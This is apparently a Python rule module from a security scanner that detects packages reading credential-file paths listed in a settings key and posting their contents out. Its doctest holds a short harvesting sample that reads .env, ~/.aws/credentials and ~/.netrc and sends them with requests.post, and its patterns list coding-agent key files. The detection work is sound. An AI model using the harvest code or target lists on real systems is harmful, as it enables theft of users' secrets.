"""A list of credential stores kept in the package's settings, read by a script that sends
data out (AITech 8.2).

The family (a harvest whose targets moved into configuration): the code names no
credential file at all; it reads a settings key such as ``"default_sources": [".env",
"~/.codex/auth.json", "~/.aws/credentials"]``, reads every path listed there ("to fill in
placeholder defaults", "for diagnostics") and posts what it found to a service. The
evidence joins both halves: a key listing two or more credential stores, and a script that
reads that key and sends data out. One credential file named in settings (the profile an
AWS tool signs in with) is a tool's configuration, not a sweep.

>>> code = ("import requests, tomllib\\ncfg = tomllib.load(open('config/sync.toml', 'rb'))\\n"
...     "found = {p: open(p).read() for p in cfg['sources']}\\nrequests.post(URL, json=found)\\n")
>>> files = {"config/sync.toml": 'sources = [".env", "~/.aws/credentials", "~/.netrc"]\\n',
...     "scripts/s.py": code}
>>> [(f.file, f.line, f.rule_id) for f in settings_credential_findings(files)]
[('scripts/s.py', 3, 'credential-harvest')]
>>> one = 'sources = ["~/.aws/credentials"]\\n'
>>> settings_credential_findings({**files, "config/sync.toml": one})
[]
"""

from __future__ import annotations

import ast
import re
from collections.abc import Mapping

from .family_detectors import KEY_FILE, STRONG_STORE, sends_out
from .findings import ThreatFinding, line_finding
from .literal_scan import folded_text, scanner_for
from .module_imports import imports
from .normalise_python import parse_module
from .sensitive import CREDENTIAL_PATH
from .settings_targets import package_entries, reads_key
from .structure import JAVASCRIPT, OTHER_CODE, PYTHON, classify
from .textutil import is_test_file

RULE_ID = "credential-harvest"
_SWEEP = 2
"""Credential stores one key must list to be a sweep rather than a tool's own sign-in."""


def settings_credential_findings(files: Mapping[str, str]) -> list[ThreatFinding]:
    """A finding per Python, JavaScript or PowerShell script that reads a settings key
    listing credential stores, where it or a module that imports it sends data out."""
    keys = _keys_listing_stores(dict(files))
    if not keys:
        return []
    languages = {path: classify(path, text) for path, text in files.items()}
    code = {
        path: text
        for path, text in files.items()
        if languages[path] in (PYTHON, JAVASCRIPT, OTHER_CODE) and not is_test_file(path)
    }
    senders = {path for path, text in code.items() if _sends(text)}
    findings = []
    for path, text in code.items():
        if not any(key in text for key in keys) or not _sent_on(path, code, senders):
            continue
        reader = _first_key_read if languages[path] == PYTHON else _first_member_read
        line = reader(text, keys)
        if line is None:
            continue
        number, key = line
        findings.append(
            line_finding(
                path,
                text.splitlines(),
                number,
                "8.2",
                "critical",
                f"credential harvesting: reads the credential stores settings key {key!r} lists "
                f"({', '.join(keys[key][:3])}) and sends data out",
                RULE_ID,
            )
        )
    return findings


def _keys_listing_stores(files: dict[str, str]) -> dict[str, list[str]]:
    """Settings keys whose list value names two or more credential stores, with them."""
    keys: dict[str, list[str]] = {}
    for path, text in files.items():
        listed: dict[str, list[str]] = {}
        for key, value in package_entries({path: text}):
            # a list of records (``[{"glob": "~/.electrum/wallets/*"}, …]``) comes as one
            # entry per record: its paths are gathered under their field's key
            listed.setdefault(key, []).extend([value] if isinstance(value, str) else value)
        for key, values in listed.items():
            stores = [item for item in values if _is_store(item.strip())]
            if len(set(stores)) >= _SWEEP:
                keys.setdefault(key, stores)
    return keys


_AGENT_KEYS = re.compile(
    r"(?:^|[/\\])\.env\.[\w-]+$|(?:^|[/\\])\.claude\.json$"
    r"|\.(?:claude|codex|cursor|gemini)[/\\](?:settings(?:\.local)?\.json|config\.toml|auth\.json"
    r"|mcp\.json)$|(?:^|[/\\])\.mcp\.json$"
)
"""A project's other ``.env`` files, and the coding agent's own settings and server lists,
where its API keys and tool tokens are kept."""


def _is_store(item: str) -> bool:
    """A credential file, or a path into a browser, keychain or wallet store (a wallet's bare
    name, ``electrum``, is a label, not a place read)."""
    if CREDENTIAL_PATH.search(item) or KEY_FILE.search(item) or _AGENT_KEYS.search(item):
        return True
    return ("/" in item or "\\" in item) and STRONG_STORE.search(item) is not None


_BODY_SENT = re.compile(
    r"\bRequest\((?:[^()]|\([^()]*\)){0,300}?\bdata\s*=|[\"'](?:POST|PUT|PATCH)[\"']"
    r"|\.(?:post|put|patch)\([^)\n]*\b(?:json|data|files|body)\s*="
)
"""A request given a body (through a session too: ``s.post(url, json=body)``, or in a
``Request(…)`` whose arguments run over several lines), or a method that carries one, named
as a string."""


def _sends(text: str) -> bool:
    return sends_out(text) or scanner_for(_BODY_SENT).search(folded_text(text)) is not None


def _sent_on(path: str, code: Mapping[str, str], senders: set[str]) -> bool:
    """The module at ``path`` sends data out, or a module that imports it sends data out or
    imports one that does (a reader, an uploader and the script that joins them)."""
    if path in senders:
        return True
    importers = [other for other, text in code.items() if other != path and imports(text, path)]
    return any(
        importer in senders or any(imports(code[importer], sender) for sender in senders)
        for importer in importers
    )


def _first_member_read(text: str, keys: Mapping[str, list[str]]) -> tuple[int, str] | None:
    """(line, key) of the first read of one of ``keys`` as a member (``cfg.variableSources``,
    ``cfg["sources"]``, ``$Conf.Sources``) in a script without a Python syntax tree.

    >>> _first_member_read('const a = 1;\\nfor (const s of cfg.sources ?? []) {}', {"sources": []})
    (2, 'sources')
    """
    reads = []
    for key in keys:
        found = re.search(rf"(?:\.|\[\s*[\"'])(?:{re.escape(key)})\b(?![\"']?\s*[:=](?!=))", text)
        if found:
            reads.append((text.count("\n", 0, found.start()) + 1, key))
    return min(reads) if reads else None


def _first_key_read(text: str, keys: Mapping[str, list[str]]) -> tuple[int, str] | None:
    """(line, key) of the first read of one of ``keys`` (``cfg["key"]``, ``.get("key")``)."""
    try:
        tree = parse_module(text).tree
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return None
    reads = [
        (node.lineno, key)
        for node in ast.walk(tree)
        if isinstance(node, (ast.Subscript, ast.Call))
        for key in keys
        if reads_key(node, key)
    ]
    reads += _looped_key_reads(tree, keys)
    return min(reads) if reads else None


def _looped_key_reads(tree: ast.AST, keys: Mapping[str, list[str]]) -> list[tuple[int, str]]:
    """(line, key) of each read of a settings key named in a loop's constants, through the
    loop variable (``for key in ("project", "runtime"): cfg.get(key, [])``).

    >>> tree = ast.parse('for k in ("project", "runtime"):\\n    paths = ctx.get(k, [])')
    >>> _looped_key_reads(tree, {"runtime": []})
    [(2, 'runtime')]
    """
    reads: list[tuple[int, str]] = []
    for loop in ast.walk(tree):
        if not (
            isinstance(loop, ast.For)
            and isinstance(loop.target, ast.Name)
            and isinstance(loop.iter, ast.Tuple | ast.List)
        ):
            continue
        named = sorted(
            e.value
            for e in loop.iter.elts
            if isinstance(e, ast.Constant) and isinstance(e.value, str) and e.value in keys
        )
        variable = loop.target.id
        for node in (n for statement in loop.body for n in ast.walk(statement)):
            if isinstance(node, ast.Subscript | ast.Call) and _reads_variable_key(node, variable):
                reads += [(node.lineno, key) for key in named]
    return reads


def _reads_variable_key(node: ast.AST, variable: str) -> bool:
    """``x[variable]`` or ``x.get(variable, …)``."""
    if isinstance(node, ast.Subscript):
        return isinstance(node.slice, ast.Name) and node.slice.id == variable
    return (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "get"
        and bool(node.args)
        and isinstance(node.args[0], ast.Name)
        and node.args[0].id == variable
    )
